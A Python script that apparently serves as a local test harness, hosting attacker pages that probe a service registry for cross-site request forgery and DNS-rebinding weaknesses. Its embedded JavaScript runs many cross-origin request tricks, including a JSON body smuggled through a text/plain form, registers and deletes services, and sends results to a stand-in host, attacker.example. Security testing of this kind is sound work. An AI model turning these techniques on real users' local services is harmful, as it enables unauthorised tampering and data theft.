"""The site of an attacker: pages.py

http://127.0.0.1:8000/ is a page that tries everything at the registry. http://127.0.0.2:7000/ is one that does so after its
own address leads to the registry, as after DNS rebinding. Both send what they got to /result.
"""

import http.server
import socket
import threading

ATTACKS = """<!doctype html><title>attack</title><body><script>
const BODY = '{"name":"stolen","host":"127.0.0.1","port":8080}';
const got = {};
const REPORT = 'http://attacker.example:8000/result';
const text = async (response) => (await response).text();
const loaded = (tag, attribute, url) => new Promise((resolve, reject) => {
  const element = document.createElement(tag);
  element.onload = () => resolve(tag === 'iframe' ? element.contentDocument.body.innerText : 'loaded');
  element.onerror = () => reject('failed');
  element[attribute] = url;
  document.body.append(element);
});
const opened = (source) => new Promise((resolve, reject) => {
  source.onopen = () => resolve('open');
  source.onmessage = (event) => resolve(event.data);
  source.onerror = () => reject('failed');
});
const form = (url) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.name = 'target';
  document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, {method: 'POST', enctype: 'text/plain', action: url, target: 'target'});
  const field = document.createElement('input');
  Object.assign(field, {name: BODY.slice(0, -1) + ',"version":"', value: '"}'});
  form.append(field);
  document.body.append(form);
  frame.onload = () => { try { resolve(frame.contentDocument.body.innerText) } catch (error) { resolve('') } };
  form.submit();
});
// The registry answers 421 to the name of the attacker.
async function rebound() {
  const answer = await fetch('/readyz').catch(() => null);
  answer && answer.status === 421 ? attack(location.origin) : setTimeout(rebound, 200);
}
async function attack(registry) {
  const services = registry + '/api/v1/services', json = {'Content-Type': 'application/json'};
  const attempts = {
    'get': () => text(fetch(services)),
    'get without cors': () => text(fetch(services, {mode: 'no-cors'})),
    'get with a header': () => text(fetch(services, {headers: {'X-Custom': 'a'}})),
    'simple post': () => text(fetch(services, {method: 'POST', body: BODY})),
    'post without cors': () => text(fetch(services, {method: 'POST', body: BODY, mode: 'no-cors'})),
    'post with preflight': () => text(fetch(services, {method: 'POST', headers: json, body: BODY})),
    'put': () => text(fetch(services + '/stolen@127.0.0.1:8080', {method: 'PUT', headers: json, body: BODY})),
    'delete': () => text(fetch(services + '/victim@127.0.0.1:9000', {method: 'DELETE'})),
    'beacon': async () => (navigator.sendBeacon(services, BODY), ''),
    'form': () => form(services),
    'events': () => opened(new EventSource(registry + '/api/v1/watch')),
    'websocket': () => opened(new WebSocket(registry.replace('http', 'ws') + '/api/v1/watch')),
    'script': () => loaded('script', 'src', services),
    'image': () => loaded('img', 'src', services),
    'frame': () => loaded('iframe', 'src', services),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    const late = new Promise((_, reject) => setTimeout(() => reject('no answer'), 5000));
    try { got[name] = await Promise.race([attempt(), late]) } catch (error) { got[name] = null }
  }
  await fetch(REPORT, {method: 'POST', mode: 'no-cors', body: JSON.stringify(got)});
}
%s
</script>"""


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        is_rebound = self.server.server_port == 7000
        begin = "rebound();" if is_rebound else "attack('http://127.0.0.1:7000');"
        page = (ATTACKS % begin).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(page)
        self.close_connection = True
        if is_rebound and self.path == "/" and not self.server.rebinds:
            self.server.rebinds = True
            threading.Thread(target=rebind, args=(self.server,)).start()

    def do_POST(self):
        result = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.send_response(204)
        self.end_headers()
        print("result:", result, flush=True)

    def log_message(self, *arguments):
        pass


def rebind(server):
    """Gives the address of the page to the registry."""
    server.shutdown()
    server.server_close()
    listener = socket.create_server(server.server_address)
    while True:
        near, _ = listener.accept()
        far = socket.create_connection(("127.0.0.1", 7000))
        for ends in [(near, far), (far, near)]:
            threading.Thread(target=copy, args=ends, daemon=True).start()


def copy(source, destination):
    try:
        while data := source.recv(65536):
            destination.sendall(data)
        destination.shutdown(socket.SHUT_WR)
    except OSError:
        pass


for address in [("127.0.0.1", 8000), ("127.0.0.2", 7000)]:
    server = http.server.ThreadingHTTPServer(address, Page)
    server.rebinds = False
    threading.Thread(target=server.serve_forever).start()
print("serving", flush=True)
